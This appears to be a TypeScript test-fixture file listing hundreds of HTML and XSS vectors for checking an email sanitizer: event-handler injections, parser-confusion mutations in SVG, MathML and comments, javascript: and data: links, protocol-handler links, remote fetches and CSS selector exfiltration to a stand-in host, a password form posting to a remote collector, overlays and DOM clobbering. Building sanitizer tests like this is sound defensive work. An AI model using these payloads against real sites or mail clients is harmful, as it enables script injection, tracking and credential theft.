/** Ways in which mail has tried to run code, fetch, or take over the page of its reader. Each would call `alert` or load something. */
const R = 'http://remote.example'

const handlers = `
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//>
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)
<IMG SRC=x OnErRoR=alert(1)>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img src=x onerror\t=\talert(1)>
<img src=x\u000Conerror=alert(1)>
<img """><script>alert(1)</script>">
<img src='x'onerror=alert(1)>
<img src="x\` \`<script>alert(1)</script>"\` \`>
<img src onerror /" '"= alt=alert(1)//">
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body><body onload=alert(1)>
<p onmouseover=alert(1)>x</p>
<p onanimationstart=alert(1) style="animation:x 1s">x</p><style>@keyframes x{}</style>
<a onfocus=alert(1) autofocus tabindex=1>x</a>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x
<div onbeforetoggle=alert(1) popover id=x>x</div><button popovertarget=x>y</button>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div contenteditable onblur=alert(1) autofocus>x</div>
<div style="width:1px;transition:all 1s" ontransitionend=alert(1)>x</div>
<xss onafterscriptexecute=alert(1)><script>1</script>
<div/onclick=alert(1)>x</div>
<p title="</p><img src=x onerror=alert(1)>">x
<a href="x" title='"><img src=x onerror=alert(1)>'>x</a>
<img alt="<x" title="/><img src=x onerror=alert(1)>">
<p foo="bar\`" onclick=alert(1)>
<table background=x onload=alert(1)><td>
<b onmouseover=alert(1)//x>b
`
const scripts = `
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=${R}/a.js></script>
<script\u000Csrc=${R}/a.js></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
<script/x>alert(1)</script>
<script type=module>alert(1)</script>
<script>/*</script><script>*/alert(1)</script>
</script><script>alert(1)</script>
<div><script></div><img src=x onerror=alert(1)></script>
<svg><script>alert(1)</script></svg>
<svg><script href=${R}/a.js></script></svg>
<svg><script>alert&#40;1)</script>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><g onload=alert(1)></g></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x"/></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><image href=${R}/x.png></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><img src=x onerror=alert(1)></noscript>
<p><noscript></p><img src=x onerror=alert(1)></noscript>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<style><img src="</style><img src=x onerror=alert(1)//">
<title><img src="</title><img src=x onerror=alert(1)//">
<textarea><img src="</textarea><img src=x onerror=alert(1)//">
<textarea/><img src=x onerror=alert(1)></textarea/>
<xmp><img src="</xmp><img src=x onerror=alert(1)//">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<noembed><img src="</noembed><img src=x onerror=alert(1)//">
<noframes><img src="</noframes><img src=x onerror=alert(1)//">
<iframe><img src="</iframe><img src=x onerror=alert(1)//">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<option><style></option></select><b><img src=x onerror=alert(1)></style></option>
<select><template><style><!--</style><a rel="--><img src=x onerror=alert(1)>">
<table><tr><td><svg><style><td><img src=x onerror=alert(1)></td></style></svg>
<a><table><td></a><img src=x onerror=alert(1)>
<![CDATA[<img src=x onerror=alert(1)>]]>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?php <img src=x onerror=alert(1)> ?>
<!--[if gte mso 9]><script>alert(1)</script><![endif]-->
<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--<!-- --><img src=x onerror=alert(1)>-->
<!doctype html><!><img src=x onerror=alert(1)>
</ <img src=x onerror=alert(1)>
<\u0000script>alert(1)</script>
<scr\u0000ipt>alert(1)</script>
<img src=x on\u0000error=alert(1)>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\uFF1Cimg src=x onerror=alert(1)\uFF1E
`
const links = `
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="view-source:${R}">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:${R}/x">x</a>
<a href="intent://x#Intent;scheme=http;end">x</a>
<a href="ms-msdt:/id x">x</a>
<a href="search-ms:query=x&crumb=location:\\\\remote">x</a>
<a href="//remote.example/x">x</a>
<a href="\\\\remote.example\\x">x</a>
<a href="/staff/act?delete=1" target=_top>x</a>
<a href="https://bank.example@remote.example/">bank</a>
<a href=https://ok.example target=_self rel=opener ping=${R}/ping>x</a>
<a href="http://a" "onclick=alert(1)">x</a>
<a href='http://a"onmouseover="alert(1)'>x</a>
<area href="javascript:alert(1)" shape=default>
<map name=m><area href="javascript:alert(1)"></map><img usemap=#m src=x>
<form action="javascript:alert(1)"><button>x</button></form>
<form action="${R}/collect"><input name=password type=password></form>
<button form=x formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)" type=image>
<input type=image src=${R}/x.png formaction="javascript:alert(1)">
<base href="${R}/"><img src=x.png><a href=y>y</a>
<base target="_top"><a href=https://a.example>x</a>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=${R}/">
<meta http-equiv=Set-Cookie content="a=b">
<meta charset=utf-7>
<link rel=stylesheet href=${R}/a.css>
<link rel=prefetch href=${R}/a>
<link rel=dns-prefetch href=//remote.example>
<link rel=import href=${R}/a.html>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=${R}></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data=${R}/x.swf></object>
<embed src="javascript:alert(1)">
<embed src=${R}/x.swf>
<applet code=x codebase=${R}></applet>
<portal src=${R}></portal>
<bgsound src=${R}/x.mid>
<layer src=${R}/x.js></layer>
<xml src=${R}/x id=i></xml>
`
const fetching = `
<img src=${R}/x.png>
<img src=//remote.example/x.png>
<img src="\\\\remote.example\\x.png">
<img src="http:remote.example/x.png">
<img src="h\tttp://remote.example/x.png">
<img srcset="${R}/x.png 1x, ${R}/y.png 2x">
<img src="data:image/png;base64,AA==" srcset="${R}/x.png 2x">
<img lowsrc=${R}/x.png dynsrc=${R}/x.avi>
<img src=x longdesc=${R}/x>
<image src=${R}/x.png>
<picture><source srcset=${R}/x.webp><img src=x></picture>
<video poster=${R}/x.png src=${R}/x.mp4></video>
<audio src=${R}/x.mp3 autoplay></audio>
<track src=${R}/x.vtt>
<input type=image src=${R}/x.png>
<body background=${R}/x.png>
<table background=${R}/x.png><tr><td background=${R}/y.png>x
<td background="javascript:alert(1)">x
<p style="background:url(${R}/x.png)">x</p>
<p style="background-image:url('${R}/x.png')">x</p>
<p style="background:u\\72l(${R}/x.png)">x</p>
<p style="background:/**/url/**/(${R}/x.png)">x</p>
<p style="background:image-set('${R}/x.png' 1x)">x</p>
<p style="background:-webkit-image-set(url(${R}/x.png) 1x)">x</p>
<p style="list-style:url(${R}/x.png)">x</p>
<ul style="list-style-image:url(${R}/x.png)"><li>x</ul>
<p style="cursor:url(${R}/x.cur),auto">x</p>
<p style="content:url(${R}/x.png)">x</p>
<p style="border-image:url(${R}/x.png) 1">x</p>
<p style="mask:url(${R}/x.svg#m)">x</p>
<p style="filter:url(${R}/x.svg#f)">x</p>
<p style="--x:url(${R}/x.png);background:var(--x)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="width:exp/**/ression(alert(1))">x</p>
<p style="behavior:url(${R}/x.htc)">x</p>
<p style="-moz-binding:url(${R}/x.xml#x)">x</p>
<p style="color:red&quot; onmouseover=&quot;alert(1)">x</p>
<p style="color:red;}</style><img src=x onerror=alert(1)>">x</p>
<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999">over</p>
<p style="POSITION:absolute;margin:-500px">over</p>
<p style="p\\6fsition:fixed">over</p>
<p style="transform:scale(99)">over</p>
<style>@import "${R}/x.css";</style>
<style>@import url(${R}/x.css)</style>
<style>body{background:url(${R}/x.png)}</style>
<style>@font-face{font-family:x;src:url(${R}/x.woff)}body{font-family:x}</style>
<style>input[value^=a]{background:url(${R}/a)}</style><input value=abc>
<style>*{display:none}</style>
<div><style>body{background:url(${R}/x.png)}</style></div>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<img src="data:text/html,<script>alert(1)</script>">
<img src="cid:unknown@x">
<img src="cid:../../staff/logout">
<img src="/staff/logout">
<img src="blob:${R}/x">
`
const clobbering = `
<p id=app class=button name=x>x</p>
<form id=forms name=body><input name=parentNode></form>
<img name=getElementById><a id=location href=https://a.example>x</a>
<a id=defaultView></a><a id=defaultView name=x href=x></a>
<p is=x-element data-x=1 data-action=delete aria-hidden=true role=dialog slot=s part=p>x</p>
<p accesskey=x tabindex=1 contenteditable draggable=true>x</p>
<p hidden inert popover>x</p>
<x-app>x</x-app>
<p __proto__=x constructor=x hasOwnProperty=y>x</p>
<constructor>x</constructor><__proto__>y</__proto__><tostring>z</tostring>
<dialog open>x</dialog>
<menu><menuitem onclick=alert(1)>x</menu>
<slot name=x></slot><portal></portal><fencedframe></fencedframe>
`

/** One to a line; `\t`, `\0` and others stand for the signs themselves. */
export const vectors: readonly string[] = [handlers, scripts, links, fetching, clobbering]
  .flatMap(group => group.trim().split('\n')).filter(line => line !== '')
